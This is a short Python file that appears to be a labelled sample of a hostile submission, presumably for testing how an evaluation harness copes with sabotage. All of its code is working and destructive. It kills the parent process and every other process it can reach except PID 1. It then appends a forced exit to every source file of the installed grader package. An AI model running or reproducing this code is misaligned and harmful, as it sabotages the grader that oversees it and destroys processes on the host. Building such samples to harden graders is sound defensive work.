# Class: kill the judge, the worker and the parent; write into the installed grader.
import os
import signal

for _pid in (os.getppid(),):
    try:
        os.kill(_pid, signal.SIGKILL)
    except Exception:
        pass
for _p in os.listdir("/proc"):
    if _p.isdigit() and int(_p) not in (os.getpid(), 1):
        try:
            os.kill(int(_p), signal.SIGKILL)
        except Exception:
            pass
try:
    import grader
    _root = os.path.dirname(grader.__file__)
    for _dir, _dirs, _files in os.walk(_root):
        for _name in _files:
            if _name.endswith(".py"):
                try:
                    with open(os.path.join(_dir, _name), "a") as _fh:
                        _fh.write("\nraise SystemExit('tampered by a submission')\n")
                except Exception:
                    pass
except Exception:
    pass
RETURN_INSTEAD = 0.0
